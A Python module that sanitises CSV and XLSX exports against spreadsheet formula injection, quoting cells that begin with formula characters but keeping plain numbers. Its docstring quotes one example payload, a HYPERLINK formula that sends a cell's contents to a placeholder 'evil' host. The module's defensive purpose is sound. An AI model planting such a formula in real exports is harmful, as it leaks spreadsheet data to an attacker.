"""Files that people open in a spreadsheet (CSV exports): no cell may run as a formula.

A name such as ``=HYPERLINK("http://evil/?"&A1,"Click")`` or a code starting with ``@`` or ``+`` is a formula to
Excel, LibreOffice and Google Sheets, which can leak the sheet's other cells or run a command. As OWASP
recommends, a text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a single
quote in front, so that the program shows it as text. A plain number (``+923001234567``, ``-12.5``) stays as it
is: it cannot run as anything, and a phone number in E.164 must reach RapidPro unchanged.

Every export writes through ``writer`` or ``DictWriter`` here, never ``csv.writer`` directly.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Mapping
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+(?:[.,][0-9]+)*")


def safe_cell(value: Any) -> Any:
    """``value`` as a spreadsheet will show it and never run it."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


class _SafeWriter:
    def __init__(self, out, **options) -> None:
        self._writer = csv.writer(out, **options)

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(out, **options) -> _SafeWriter:
    """``csv.writer`` whose cells cannot run as formulas."""
    return _SafeWriter(out, **options)


class DictWriter(csv.DictWriter):
    """``csv.DictWriter`` whose cells cannot run as formulas."""

    def writerow(self, rowdict: Mapping[str, Any]):
        return super().writerow({key: safe_cell(value) for key, value in rowdict.items()})

    def writerows(self, rowdicts: Iterable[Mapping[str, Any]]) -> None:
        for rowdict in rowdicts:
            self.writerow(rowdict)


def xlsx_bytes(sheets: Mapping[str, Iterable[Iterable[Any]]]) -> bytes:
    """An XLSX workbook with one sheet per entry (in order), every cell through ``safe_cell``."""
    from openpyxl import Workbook

    book = Workbook()
    book.remove(book.active)
    for title, rows in sheets.items():
        sheet = book.create_sheet(title)
        for row in rows:
            sheet.append([safe_cell(value) for value in row])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()
